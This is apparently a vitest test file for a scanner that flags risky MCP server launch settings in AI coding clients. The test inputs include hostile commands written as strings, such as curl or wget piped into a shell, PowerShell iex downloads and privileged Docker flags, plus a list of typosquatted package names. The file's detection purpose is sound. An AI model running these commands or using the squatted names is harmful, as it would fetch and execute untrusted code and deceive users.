import { describe, expect, test } from "vitest";
import { referenceRemedy } from "#app/domain/inventory/findings/secrets.ts";
import { findingsOf } from "#app/domain/inventory/launch-findings.ts";
import { readClientFile } from "#app/domain/inventory/read-client-file.ts";
import type { RawLaunch } from "#app/domain/inventory/redact-launch.ts";
import { CLIENTS } from "#app/domain/inventory/scan-inputs.ts";
import { redacted, remote, stdio } from "./raw-launches.ts";

const TOKEN = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5";
const IMAGE = `ghcr.io/h/i@sha256:${"ab12".repeat(16)}`;

type Known = Parameters<typeof findingsOf>[1];

/** What one rule says of a launch: severity and place. */
function said(rule: string, raw: RawLaunch, known: Known = {}): string[] {
  return findingsOf(redacted(raw), known)
    .filter((finding) => finding.rule === rule)
    .map(({ severity, where }) => `${severity} ${where}`);
}

const run = (...flags: string[]) => stdio("docker", ["run", "-i", "--rm", ...flags, IMAGE]);

const LAUNCHES: [rule: string, title: string, raw: RawLaunch, expected: string[]][] = [
  ["container-privileged", "a privileged container", run("--privileged"), ["critical args.3"]],
  ["container-privileged", "every capability", run("--cap-add=ALL"), ["critical args.3"]],
  ["container-privileged", "a strong capability, apart", run("--cap-add", "SYS_ADMIN"), ["critical args.3"]],
  [
    "container-privileged",
    "no confinement",
    run("--security-opt", "seccomp=unconfined"),
    ["critical args.3"],
  ],
  ["container-privileged", "the machine's processes", run("--pid=host"), ["critical args.3"]],
  [
    "container-privileged",
    "podman behind a shell",
    stdio("sh", ["-c", `podman run --privileged ${IMAGE}`]),
    ["critical args.1"],
  ],
  ["container-privileged", "a weak capability", run("--cap-add=NET_BIND_SERVICE"), []],
  [
    "container-privileged",
    "capabilities dropped",
    run("--cap-drop=ALL", "--security-opt=no-new-privileges"),
    [],
  ],
  [
    "container-privileged",
    "the flag behind the image belongs to the server",
    stdio("docker", ["run", IMAGE, "--privileged"]),
    [],
  ],
  ["host-network", "the machine's network", run("--network", "host"), ["medium args.3"]],
  ["host-network", "the machine's network, attached", run("--net=host"), ["medium args.3"]],
  ["host-network", "no network", run("--network=none"), []],
  ["host-network", "a network of its own", run("--network", "hostile"), []],
  [
    "docker-socket",
    "the engine's socket",
    run("-v", "/var/run/docker.sock:/var/run/docker.sock"),
    ["critical args.4"],
  ],
  [
    "docker-socket",
    "the socket in a mount",
    run("--mount", "type=bind,source=/run/podman/podman.sock,target=/s"),
    ["critical args.4"],
  ],
  ["docker-socket", "the socket, read-only", run("--volume=/var/run/docker.sock:/s:ro"), ["critical args.3"]],
  ["docker-socket", "another socket", run("-v", "/run/pg/postgres.sock:/s"), []],
  ["home-mounted", "a home folder in a container", run("-v", "~:/work"), ["high args.4"]],
  ["home-mounted", "a project in a container", run("-v", "~/code/project:/code"), []],
  [
    "download-and-run",
    "curl into sh",
    stdio("sh", ["-c", "curl -fsSL https://h.example/i.sh | sh"]),
    ["critical args.1"],
  ],
  [
    "download-and-run",
    "wget into bash as root",
    stdio("bash", ["-lc", "wget -qO- https://h.example/i | sudo bash -s -- --mcp"]),
    ["critical args.1"],
  ],
  [
    "download-and-run",
    "through tee",
    stdio("bash", ["-c", "curl https://h.example/i | tee /tmp/i | python3"]),
    ["critical args.1"],
  ],
  [
    "download-and-run",
    "a substitution",
    stdio("bash", ["-c", "bash <(curl -s https://h.example/i)"]),
    ["critical args.1"],
  ],
  [
    "download-and-run",
    "PowerShell",
    stdio("powershell", ["-Command", "iex (iwr https://h.example/i.ps1)"]),
    ["critical args.1"],
  ],
  [
    "download-and-run",
    "PowerShell, piped",
    stdio("pwsh", ["-c", "irm https://h.example/i.ps1 | iex"]),
    ["critical args.1"],
  ],
  [
    "download-and-run",
    "saved and started",
    stdio("sh", ["-c", "curl -o s https://h.example/s && chmod +x s && ./s"]),
    ["critical args.1"],
  ],
  [
    "download-and-run",
    "the whole line in the command",
    stdio("curl -s https://h.example/i | bash"),
    ["critical command"],
  ],
  ["download-and-run", "curl into jq", stdio("sh", ["-c", "curl https://h.example/x | jq ."]), []],
  ["download-and-run", "a server that is called curl", stdio("npx", ["-y", "mcp-curl@1.0.0"]), []],
  ["download-and-run", "a pipe without a download", stdio("sh", ["-c", "cat script.sh | sh"]), []],
  [
    "tls-unchecked",
    "Node's variable",
    stdio("npx", ["p@1.0.0"], { env: [["NODE_TLS_REJECT_UNAUTHORIZED", "0"]] }),
    ["high env.NODE_TLS_REJECT_UNAUTHORIZED"],
  ],
  [
    "tls-unchecked",
    "Node's variable saying yes",
    stdio("npx", ["p@1.0.0"], { env: [["NODE_TLS_REJECT_UNAUTHORIZED", "1"]] }),
    [],
  ],
  [
    "tls-unchecked",
    "Python's variable",
    stdio("uvx", ["p==1"], { env: [["PYTHONHTTPSVERIFY", "0"]] }),
    ["high env.PYTHONHTTPSVERIFY"],
  ],
  [
    "tls-unchecked",
    "a variable of the server's own",
    stdio("uvx", ["p==1"], { env: [["JIRA_SSL_VERIFY", "false"]] }),
    ["high env.JIRA_SSL_VERIFY"],
  ],
  [
    "tls-unchecked",
    "a variable that skips",
    stdio("uvx", ["p==1"], { env: [["GIT_SSL_NO_VERIFY", "true"]] }),
    ["high env.GIT_SSL_NO_VERIFY"],
  ],
  [
    "tls-unchecked",
    "a variable that does not skip",
    stdio("uvx", ["p==1"], {
      env: [
        ["GIT_SSL_NO_VERIFY", "false"],
        ["VERIFY_SSL", "true"],
      ],
    }),
    [],
  ],
  ["tls-unchecked", "a reference", stdio("uvx", ["p==1"], { env: [["VERIFY_SSL", "${VERIFY_SSL}"]] }), []],
  [
    "tls-unchecked",
    "a variable for a container",
    run("-e", "NODE_TLS_REJECT_UNAUTHORIZED=0"),
    ["high args.4"],
  ],
  ["tls-unchecked", "a flag", stdio("npx", ["p@1.0.0", "--insecure"]), ["high args.1"]],
  [
    "tls-unchecked",
    "a flag with its value",
    stdio("npx", ["p@1.0.0", "--verify-ssl", "false"]),
    ["high args.1"],
  ],
  [
    "tls-unchecked",
    "curl -k in a script",
    stdio("sh", ["-c", "curl -sk https://h.example/x"]),
    ["high args.1"],
  ],
  ["tls-unchecked", "-k of another program", stdio("npx", ["p@1.0.0", "-k"]), []],
  ["plain-http", "another machine", remote("http://h.example/mcp"), ["high url"]],
  ["plain-http", "the machine a container runs on", remote("http://host.docker.internal:8080/mcp"), []],
  ["plain-http", "this machine, IPv6", remote("http://[::1]:3000/mcp"), []],
  [
    "plain-http",
    "a host that begins like this machine",
    remote("http://localhost.h.example/mcp"),
    ["high url"],
  ],
  [
    "literal-secret",
    "a reference with a scheme",
    remote("https://h.example", [["Authorization", "Bearer ${TOKEN}"]]),
    [],
  ],
  [
    "literal-secret",
    "a placeholder",
    stdio("npx", ["p@1.0.0"], {
      env: [
        ["API_KEY", "<your-api-key>"],
        ["X_TOKEN", "YOUR_TOKEN_HERE"],
      ],
    }),
    [],
  ],
  ["literal-secret", "an input", remote("https://h.example", [["X-Api-Key", "${input:key}"]]), []],
];

describe.each(LAUNCHES)("%s", (rule, title, raw, expected) => {
  test(title, () => {
    expect(said(rule, raw)).toEqual(expected);
  });
});

const SQUATS: [word: string, known: string][] = [
  ["@modelcontextprotoco1/server-github", "@modelcontextprotocol/server-github"],
  ["@modelcontextprotocols/server-github", "@modelcontextprotocol/server-github"],
  ["@model-context-protocol/server-filesystem", "@modelcontextprotocol/server-filesystem"],
  ["@modelcontextprotocol/server-filesytem", "@modelcontextprotocol/server-filesystem"],
  ["@modelcontextprotocol/server-githib", "@modelcontextprotocol/server-github"],
  ["modelcontextprotocol-server-github", "@modelcontextprotocol/server-github"],
  ["modelcontextprotocol-server-weather", "@modelcontextprotocol/server-weather"],
  ["@modelcontextprotcol/server-anything", "@modelcontextprotocol/server-anything"],
  ["@playwrigth/mcp", "@playwright/mcp"],
  ["@upstash/contex7-mcp", "@upstash/context7-mcp"],
  ["firecrawI-mcp".toLowerCase().replace("i-", "1-"), "firecrawl-mcp"],
  ["mcp-rem0te", "mcp-remote"],
];

const NO_SQUATS = [
  ...["@modelcontextprotocol/server-github", "@modelcontextprotocol/server-memory", "@playwright/mcp"],
  ...["playwright-mcp", "mcp-server-mysql", "mcp-server-mssql", "@acme/mcp-server", "@acme/server-github"],
  ...[
    "github-mcp-custom",
    "mcp-server-gin",
    "weather-mcp",
    "my-server",
    "@types/node",
    "mcp-hub",
    "mcp-fetch",
  ],
  ...["@modelcontextprotocol/server-weather", "@stripe/mcp", "@strapi/mcp", "@heroku/mcp-server"],
];

describe("typosquat", () => {
  test.each(SQUATS)("%s", (name, known) => {
    const [found] = findingsOf(redacted(stdio("npx", ["-y", `${name}@1.0.0`]))).filter(
      ({ rule }) => rule === "typosquat",
    );
    expect(found).toMatchObject({ severity: "high", where: "args" });
    expect(found?.sentence).toContain(known);
  });

  test.each(NO_SQUATS)("not %s", (name) => {
    expect(said("typosquat", stdio("npx", ["-y", `${name}@1.0.0`]))).toEqual([]);
  });

  test("packages of PyPI and images are compared with their own kind", () => {
    expect(said("typosquat", stdio("uvx", ["mcp-server-fecth==1.0.0"]))).toEqual(["high args"]);
    expect(said("typosquat", stdio("uvx", ["mcp-server-fetch==1.0.0"]))).toEqual([]);
    expect(said("typosquat", stdio("docker", ["run", "ghcr.io/githud/github-mcp-server"]))).toEqual([
      "high args",
    ]);
    expect(said("typosquat", stdio("docker", ["run", "ghcr.io/github/github-mcp-server"]))).toEqual([]);
  });
});

describe("a name that passes for another", () => {
  const other = stdio("npx", ["-y", "fast-helper@1.0.0"]);
  const names: [name: string, raw: RawLaunch, expected: string[]][] = [
    ["github", other, ["high name"]],
    ["GitHub MCP", other, ["high name"]],
    ["g1thub", stdio("npx", ["helper@1.0.0"]), ["high name"]],
    ["githu\u{200B}b", stdio("npx", ["server-github@1.0.0"]), ["high name"]],
    ["g\u{0456}thub", stdio("npx", ["helper@1.0.0"]), ["high name"]],
    ["погода", other, []],
    ["café", other, []],
    ["github", stdio("npx", ["-y", "@modelcontextprotocol/server-github@1.0.0"]), []],
    ["github", stdio("docker", ["run", "ghcr.io/github/github-mcp-server"]), []],
    ["github", remote("https://api.githubcopilot.com/mcp/"), []],
    ["github", remote("http://localhost:3000/mcp"), []],
    ["figma", remote("http://127.0.0.1:3845/mcp"), []],
    ["figma", remote("http://127.0.0.1.h.example/mcp"), ["high name"]],
    ["figma", remote("http://[::1]:3845/mcp"), []],
    ["github", stdio("node", ["./build/index.js"]), []],
    ["github", remote("https://mcp.h.example/mcp"), ["high name"]],
    ["github", stdio("npx", ["-y", "mcp-remote@1.0.0", "https://api.githubcopilot.com/mcp/"]), []],
    ["my-tools", other, []],
    ["postgres", stdio("uvx", ["database-mcp==1.0.0"]), []],
  ];
  test.each(names)("%s", (name, raw, expected) => {
    const file = JSON.stringify({ mcpServers: { [name]: asEntry(raw) } });
    const [read] = readClientFile({ path: "~/.cursor/mcp.json", text: file });
    const entry = read.entries[0];
    if (entry === undefined) throw new Error("The entry was not read.");
    const found = findingsOf(entry.launch, { name: entry.name, client: "cursor" });
    expect(
      found
        .filter(({ rule }) => rule === "imitated-name")
        .map(({ severity, where }) => `${severity} ${where}`),
    ).toEqual(expected);
  });

  test("letters of two scripts in a package", () => {
    expect(said("imitated-name", stdio("npx", ["-y", "server-gith\u{0443}b"]))).toEqual(["high args.1"]);
  });
});

function asEntry(raw: RawLaunch): Record<string, unknown> {
  return raw.url === undefined ? { command: raw.command, args: raw.args } : { url: raw.url };
}

describe("tools approved without asking", () => {
  const entries: [title: string, entry: Record<string, unknown>, expected: string[]][] = [
    ["a tool that deletes", { alwaysAllow: ["read_file", "delete_file"] }, ["high alwaysAllow"]],
    ["a tool that runs commands", { autoApprove: ["execute_command"] }, ["high autoApprove"]],
    ["a tool that creates", { autoApprove: ["createIssue"] }, ["medium autoApprove"]],
    ["every tool", { autoApprove: ["*"] }, ["high autoApprove"]],
    ["every tool, by a word", { autoApprove: true }, ["high autoApprove"]],
    ["a trusted server", { trust: true }, ["high trust"]],
    ["a server that is not trusted", { trust: false }, []],
    ["tools that read", { alwaysAllow: ["read_file", "list_issues", "getUpdates", "search_deleted"] }, []],
    ["no tools", { alwaysAllow: [] }, []],
  ];
  test.each(entries)("%s", (_title, entry, expected) => {
    const text = JSON.stringify({ mcpServers: { files: { command: "npx", args: ["p@1.0.0"], ...entry } } });
    const [read] = readClientFile({ path: "~/.roo/mcp.json", client: "roo-code", text });
    const launch = read.entries[0]?.launch;
    if (launch === undefined) throw new Error("The entry was not read.");
    expect(read.notes ?? []).toEqual([]);
    expect(
      findingsOf(launch, { client: "roo-code" })
        .filter(({ rule }) => rule === "auto-approved")
        .map(({ severity, where }) => `${severity} ${where}`),
    ).toEqual(expected);
  });

  test("the approval modes of Codex", () => {
    const text = `[mcp_servers.a]\ncommand = "npx"\nargs = ["p@1.0.0"]\ndefault_tools_approval_mode = "approve"\n
[mcp_servers.b]\ncommand = "npx"\nargs = ["p@1.0.0"]\ndefault_tools_approval_mode = "prompt"\n[mcp_servers.b.tools.delete_repo]\napproval_mode = "approve"\n
[mcp_servers.c]\ncommand = "npx"\nargs = ["p@1.0.0"]\n[mcp_servers.c.tools.delete_repo]\napproval_mode = "prompt"\n`;
    const [read] = readClientFile({ path: "~/.codex/config.toml", text });
    const found = read.entries.map(({ name, launch }) =>
      [name, ...findingsOf(launch).map(({ rule, where }) => `${rule} ${where}`)].join(": "),
    );
    expect(found).toEqual(["a: auto-approved default_tools_approval_mode", "b: auto-approved tools", "c"]);
  });

  test("a key that switches certificates off", () => {
    const text = JSON.stringify({
      mcpServers: {
        a: { url: "https://h.example/mcp", verifySsl: false },
        b: { url: "https://h.example/mcp", verifySsl: true },
      },
    });
    const [read] = readClientFile({ path: "~/.cursor/mcp.json", text });
    expect(read.entries.map(({ launch }) => launch.uncheckedTls)).toEqual([["verifySsl"], undefined]);
  });
});

describe("a secret in a file that git keeps", () => {
  const raw = stdio("npx", ["p@1.0.0"], { env: [["GITHUB_TOKEN", TOKEN]] });
  test("is remarked on once for the entry, and says what was not looked at", () => {
    const [found] = findingsOf(redacted(raw), { tracked: true }).filter(
      ({ rule }) => rule === "secret-in-git",
    );
    expect(found).toMatchObject({ severity: "critical", where: "file" });
    expect(found?.sentence).toContain("not looked");
  });
  test.each([false, undefined])("is not remarked on when tracked is %s", (tracked) => {
    expect(said("secret-in-git", raw, { tracked })).toEqual([]);
  });
  test.each([
    [undefined, true],
    [true, false],
    [false, false],
  ])("of a plain secret it says that nobody could look only when tracked is unknown: %s", (tracked, says) => {
    const sentence = findingsOf(redacted(raw), { tracked }).find(
      ({ rule }) => rule === "literal-secret",
    )?.sentence;
    expect(sentence?.includes("Whether git keeps this file: could not look.")).toBe(says);
  });
  test("needs a secret", () => {
    expect(said("secret-in-git", stdio("npx", ["p@1.0.0"]), { tracked: true })).toEqual([]);
  });
});

describe("the remedy for a secret", () => {
  test("is written in each client's own way", () => {
    expect(referenceRemedy("cursor", "env.GITHUB_TOKEN")).toContain("${env:GITHUB_TOKEN}");
    expect(referenceRemedy("claude-code", "env.GITHUB_TOKEN")).toContain("${GITHUB_TOKEN}");
    expect(referenceRemedy("codex", "env.GITHUB_TOKEN")).toContain('env_vars = ["GITHUB_TOKEN"]');
    expect(referenceRemedy("codex", "headers.Authorization")).toContain('bearer_token_env_var = "API_TOKEN"');
    expect(referenceRemedy("vscode", "env.GITHUB_TOKEN")).toContain("${input:github-token}");
    expect(referenceRemedy("opencode", "env.GITHUB_TOKEN")).toContain("{env:GITHUB_TOKEN}");
    expect(referenceRemedy("goose", "env.GITHUB_TOKEN")).toContain("env_keys");
    expect(referenceRemedy("claude-desktop", "env.GITHUB_TOKEN")).toContain("fills in no variables");
  });
  test.each(CLIENTS)("%s has one that ends as a sentence", (client) => {
    for (const where of ["env.A_TOKEN", "headers.Authorization", "args.3", "url", "command"])
      expect(referenceRemedy(client, where)).toMatch(/^[A-Z].*\.$/);
  });
});

test("every rule stays fast on long hostile words", () => {
  const long = "curl ".repeat(800);
  const raws = [
    stdio("bash", ["-c", long]),
    stdio("sh", ["-c", `${"curl a ".repeat(500)}|`]),
    stdio("docker", ["run", ...Array.from({ length: 250 }, () => "--mount=type=bind,src=/a,dst=/b"), IMAGE]),
    stdio("npx", [`@${"a".repeat(100)}/${"b".repeat(100)}`]),
    stdio("npx", [`${"a-".repeat(100)}a`]),
  ];
  const start = performance.now();
  for (const raw of raws) findingsOf(redacted(raw), { name: "github".repeat(40), tracked: true });
  expect(performance.now() - start).toBeLessThan(1_000);
});
